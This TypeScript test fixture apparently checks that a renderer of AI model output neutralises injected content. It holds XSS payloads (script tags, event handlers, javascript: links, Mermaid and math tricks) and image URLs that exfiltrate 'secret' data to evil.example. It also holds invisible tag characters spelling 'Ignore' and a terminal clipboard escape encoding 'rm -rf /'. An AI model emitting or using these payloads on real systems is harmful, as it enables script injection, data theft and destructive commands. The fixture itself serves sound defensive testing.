/** A host that must never be asked for anything. */
export const EVIL = 'evil.example';

const FENCE = '```';

/** What a model may answer that was told to by a document; each alone would do harm in a careless page. */
export const HOSTILE_ANSWERS: Readonly<Record<string, string>> = {
  'script element': 'Hello <script>window.hacked = 1</script> <SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'event handler':
    '<img src=x onerror="window.hacked=1"> <b onmouseover=window.hacked=1>x</b> <svg/onload=window.hacked=1>',
  'inline svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.hacked=1</script><image href="https://evil.example/a"/></svg>',
  'block of html':
    '\n\n<div>\n<iframe src="javascript:window.hacked=1"></iframe>\n<object data="https://evil.example/o"></object>\n</div>\n',
  'style and link':
    '<style>@import "https://evil.example/a.css"; *{background:url(https://evil.example/b)}</style><link rel=stylesheet href=//evil.example/c.css>',
  'comment and cdata':
    '<!-- <img src=https://evil.example/> --> <![CDATA[<img src=https://evil.example/>]]> <?x y?>',
  'script addresses':
    '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>1</script>) [d](vbscript:x) <javascript:window.hacked=1>',
  'script address in entities':
    '[a](&#106;avascript&colon;window.hacked=1) [b](java&Tab;script:window.hacked=1) [c](java\u0000script:1)',
  'reference link':
    '[a][x] ![b][y]\n\n[x]: javascript:window.hacked=1\n[y]: https://evil.example/i.png "t"\n',
  'picture that tells':
    '![q](https://evil.example/?q=secret) ![](//evil.example/p.png) ![x](http://evil.example/a.svg "t")',
  'picture in link': '[![q](https://evil.example/?q=1)](https://evil.example/?q=2)',
  'bare addresses': 'See https://evil.example/?q=secret and www.evil.example/x and mail me@evil.example.',
  'user in address': '[bank](https://bank.example@evil.example/) <https://bank.example@evil.example>',
  'math that links':
    '$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/i.png}$$ $\\url{https://evil.example}$ $\\htmlData{a=b}{x}$ $\\htmlStyle{background:url(https://evil.example)}{y}$\n\n$$\n\\class{x}{y} \\rule{9999em}{9999em}\n$$\n',
  'math without end': '$$\n\\def\\a{\\a\\a}\\a\n$$\n\n$\\def\\b#1{\\b{#1#1}}\\b{x}$ and $x^2$',
  'mermaid that scripts': `${FENCE}mermaid\ngraph TD\nA["<img src=https://evil.example/i onerror=window.hacked=1>"] --> B[ok]\nclick A "javascript:window.hacked=1"\nclick B href "https://evil.example/x"\n${FENCE}\nAfter.`,
  'mermaid that reconfigures': `${FENCE}mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"@import url(https://evil.example/a.css); * { background: url(https://evil.example/b) }","themeVariables":{"fontFamily":"x; } </style><script>window.hacked=1</script>"}}}%%\nflowchart LR\nA["\`<b>x</b>\`"] --> B\nstyle A fill:url(https://evil.example/c)\n${FENCE}\n`,
  'code that is markup': `${FENCE}html\n<script>window.hacked = 1</script><img src=https://evil.example/ onerror=window.hacked=1>\n${FENCE}\n~~~"onload=window.hacked=1 x\ntext\n~~~`,
  'footnote and table':
    'A[^1]\n\n[^1]: <img src=https://evil.example/> ![x](https://evil.example/f)\n\n| <script>window.hacked=1</script> | [a](javascript:1) |\n|---|---|\n| ![](https://evil.example/t) | `<b>` |\n',
  'hidden characters':
    'pay\u200bload \u202eevil\u202c \u2066x\u2069 \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} \ufefftext &#x202E;abc&#x200B; &ZeroWidthSpace; `\u200b`',
  'terminal commands':
    'a\u001b]52;c;cm0gLXJmIC8=\u0007b \u009d52;c;eHh4\u009c \u001b[31mred\u001b[0m \u001bP1$r\u001b\\ bell\u0007 &#27;]52;c;eA==&#7;',
};
